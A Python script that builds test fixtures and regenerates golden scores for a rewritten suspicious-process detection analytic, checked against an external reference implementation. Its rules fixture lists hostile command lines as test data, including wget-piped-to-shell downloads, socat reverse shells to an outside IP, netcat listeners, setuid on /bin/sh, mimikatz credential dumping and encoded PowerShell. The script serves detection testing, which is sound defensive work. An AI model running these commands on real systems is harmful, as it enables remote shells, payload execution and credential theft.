"""Regenerate the golden scores from the *reference* suspicious-process scoring.

Why this exists: our analytics is a vectorised rewrite, and the only trustworthy oracle for
"same scores" is the published logic itself, run once on the same inputs. The reference is never
part of this repository; point ``SUSP_SCORING_REF`` at a folder holding its ``analytics.py``,
``rule_engine.py`` and ``rules.json`` and run this with an interpreter that has pandas<3,
pyarrow and business-rules (the reference crashes on pandas 3)::

    SUSP_SCORING_REF=/tmp/refscore /tmp/refscore/venv/bin/python \
        analytics_images/susp_scoring/tests/make_golden.py

It writes the synthetic inputs (snappy parquet, as Kestrel writes them) and ``golden.json``
into ``tests/data/``. Two deliberate differences are folded into the expected data, both
documented in the README:

* the reference's missing comma joins ``'-m http.server'`` and ``'import pty; pty.spawn*'``
  into one pattern; ``score`` comes from a run with the two patterns split (the raw reference
  result is kept as ``score_reference``);
* the reference's network step adds to a ``network_susp_score`` column that it never creates
  (KeyError); the harness seeds that column with 0 so the step can run at all.

Techniques are collected by running the reference rule engine on each row; its space-joined
set has a hash-dependent order (and a stray empty member), so they are stored sorted.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import pandas as pd

HERE = Path(__file__).resolve().parent
DATA = HERE / "data"


def _rules_table() -> pd.DataFrame:
    """Rows that hit every Sigma pattern and every rule, plus near misses."""
    command_lines = [
        "wget x - http://a | perl",
        "wget -q - https://e.com/x | sh",
        "wget a - http://b | bash",
        "WGET x - http://a | perl",
        "python -m SimpleHTTPServer",
        "/usr/bin/python -m SimpleHTTPServer",
        "python -m SimpleHTTPServer 8000",
        "python -m SimpleHTTPServer\n",
        "python3 -m http.server",
        "python3 -m httpXserver",
        "python -c 'import pty; pty.spawn(\"/bin/sh\")'",
        "python -m http.serverimport pty; pty.spawn('x')",
        "socat exec:'bash -li',pty,stderr tcp:1.2.3.4:80",
        "socat -O /tmp/x",
        "socat tcp-connect:1.2.3.4:4444 exec:sh",
        "ftp; echo binary >> cmds",
        "wget http://x/a; chmod +x a",
        "wget http://x/a; chmod 777 a",
        "cd /tmp || cd /var/run || cd /mnt; ls",
        "service x stop;service iptables stop;ls",
        "a stop;SuSEfirewall2 stop;b",
        "chmod 777 20201234",
        "echo x >>/etc/rc.local",
        "base64 -d /tmp/a.b64 > a",
        "cat x | base64 -d > y",
        "/bin/chmod u+s /bin/sh",
        "chmod +s /tmp/x",
        "chmod u+s /tmp/x",
        "run /tmp/haxhax",
        "run /tmp/ns_sploit2",
        "nc -l -p 4444",
        "cp /bin/ksh /tmp/k",
        "cp /bin/sh /tmp/s",
        "base64 -d /tmp/x.b64 out",
        "java -jar /tmp/ysocereal.jar x",
        "run /tmp/x now",
        "ls; chmod +x /tmp/a",
        "ls;chmod +x /tmp/a",
        "curl tweetdeck",
        "TWEET",
        "echo\n tweet",
        "mimikatz.exe sekurlsa::logonpasswords",
        "net use \\\\host\\c$",
        "net user admin",
        "net group x",
        "net localgroup administrators",
        "whoami /all",
        "",
        None,
    ]
    rows = [{"command_line": c} for c in command_lines]
    rows += [
        {"binary_ref.name": "sethc.exe"},
        {"binary_ref.name": "SETHC.EXE"},
        *(
            {"parent_ref.binary_ref.name": p}
            for p in ["osk.exe", "Magnify.exe", "Narrator.exe", "DisplaySwitch.exe", "AtBroker.exe"]
        ),
        {"binary_ref.name": "powershell.exe", "command_line": "powershell -EnC abc"},
        {"binary_ref.name": "powershell.exe", "command_line": "powershell -enc abc"},
        {"binary_ref.name": "pwsh.exe", "command_line": "pwsh -enc abc"},
        {"binary_ref.name": "powershell.exe", "command_line": "powershell -Version 2 -c x"},
        {"binary_ref.name": "powershell.exe", "command_line": "powershell -ve 2 -enc x"},
        {"binary_ref.name": "powershell.exe", "command_line": "powershell-enc"},
        {"type": "windows-registry-key", "key": "HKLM\\Sw\\BackgroundAccessApplications\\x"},
        {"type": "process", "key": "HKLM\\Sw\\BackgroundAccessApplications\\x"},
        {"type": "windows-registry-key", "key": "HKLM\\Sw\\Run"},
        *(
            {"binary_ref.parent_directory_ref.path": p}
            for p in [
                "C:\\",
                "C:\\Users\\bob\\AppData\\Local\\Temp",
                "C:\\Users\\bob\\AppData\\Local\\Temp\\sub",
                "C:\\Windows\\TEMP",
                "C:\\Windows\\Temp",
                "C:\\Users\\1bob\\AppData\\Local\\Temp",
                "D:\\",
            ]
        ),
        *(
            {"binary_ref.name": b, "parent_ref.binary_ref.name": p}
            for b, p in [
                ("cmd.exe", "WINWORD.EXE"),
                ("powershell.exe", "EXCEL.EXE"),
                ("cmd.exe", "POWERPNT.EXE"),
                ("cmd.exe", "MSACCESS.EXE"),
                ("powershell.exe", "OUTLOOK.EXE"),
                ("cmd.exe", "VISIO.EXE"),
                ("cmd.exe", "winword.exe"),
                ("notepad.exe", "WINWORD.EXE"),
                ("sh", "node"),
                ("node", "node"),
                (None, "node"),
                ("sh", "nodejs"),
            ]
        ),
        {
            "binary_ref.name": "powershell.exe",
            "parent_ref.binary_ref.name": "WINWORD.EXE",
            "command_line": "powershell -enc x; whoami; net use z",
            "binary_ref.parent_directory_ref.path": "C:\\Windows\\TEMP",
        },
    ]
    frame = pd.DataFrame(rows)
    frame.insert(0, "id", [f"process--rules-{i:03d}" for i in range(len(frame))])
    frame["type"] = frame["type"].fillna("process")
    return frame


def _network_table(column: str) -> pd.DataFrame:
    """Processes grouped by x_guid with one guid far above the others (a 3-sigma outlier)."""
    guids = [f"guid-{i % 20:02d}" for i in range(24)] + ["guid-hot"]
    if column == "x_opened_connection_count":
        values: list[object] = [1 + i % 3 for i in range(24)] + [200]
    else:
        values = [f"network-traffic--{i % 4}" for i in range(24)] + ["hot"]
    frame = pd.DataFrame({"x_guid": guids, column: values})
    frame["command_line"] = ["sh -c x" if i % 5 else "" for i in range(25)]
    if column != "x_opened_connection_count":
        # nunique per guid: make the hot guid open many distinct connections
        extra = pd.DataFrame(
            {
                "x_guid": ["guid-hot"] * 40,
                column: [f"network-traffic--hot{i}" for i in range(40)],
                "command_line": ["nc x"] * 40,
            }
        )
        frame = pd.concat([frame, extra], ignore_index=True)
    frame.insert(0, "id", [f"process--net-{i:03d}" for i in range(len(frame))])
    frame.insert(1, "type", "process")
    return frame


def _fixed_patterns(patterns: list[str]) -> list[str]:
    fixed: list[str] = []
    for pattern in patterns:
        head, sep, tail = pattern.partition("http.serverimport")
        fixed += [head + "http.server", "import" + tail] if sep else [pattern]
    return fixed


def _techniques(engine_cls: type, rules: list, frame: pd.DataFrame) -> list[str]:
    engine = engine_cls(rules)
    out = []
    for record in frame.to_dict("records"):
        clean = {k: (None if isinstance(v, float) and pd.isna(v) else v) for k, v in record.items()}
        engine.apply_rules(clean)
        members = sorted(set(clean.get("techniques", "").split(" ")) - {""})
        out.append(" ".join(members))
    return out


def main() -> None:
    ref_dir = Path(os.environ["SUSP_SCORING_REF"])
    sys.path.insert(0, str(ref_dir))
    import analytics as ref  # type: ignore[import-not-found]
    import rule_engine  # type: ignore[import-not-found]

    rules = json.loads((ref_dir / "rules.json").read_text())
    raw_patterns = list(ref.PATTERNS)
    DATA.mkdir(exist_ok=True)
    tables = {
        "procs": pd.read_parquet(DATA / "procs.parquet.gz"),
        "rules": _rules_table(),
        "net_count": _network_table("x_opened_connection_count"),
        "net_refs": _network_table("opened_connection_ref_0.id"),
    }
    golden = []
    for name, frame in tables.items():
        if name != "procs":
            # Round-trip through parquet: missing strings must be None (as Kestrel's inputs
            # read back), because the reference rule engine rejects NaN as a string.
            frame.to_parquet(DATA / f"{name}.parquet", compression="snappy", index=False)
            frame = pd.read_parquet(DATA / f"{name}.parquet")
        seeded = frame.copy()
        if name.startswith("net_"):
            seeded["network_susp_score"] = 0
        ref.PATTERNS = raw_patterns
        raw = ref.analytics(seeded.copy())
        ref.PATTERNS = _fixed_patterns(raw_patterns)
        fixed = ref.analytics(seeded.copy())
        techniques = _techniques(rule_engine.RuleEngine, rules, frame)
        for i in range(len(frame)):
            record = {
                "table": name,
                "id": frame["id"].iloc[i],
                "score": float(fixed["x_suspicious_score"].iloc[i]),
                "score_reference": float(raw["x_suspicious_score"].iloc[i]),
                "techniques": techniques[i],
            }
            if "network_susp_score" in fixed:
                record["network_susp_score"] = float(fixed["network_susp_score"].iloc[i])
            golden.append(record)
    (DATA / "golden.json").write_text(json.dumps(golden, indent=1) + "\n")
    print(f"wrote {len(golden)} golden rows to {DATA / 'golden.json'}")


if __name__ == "__main__":
    main()
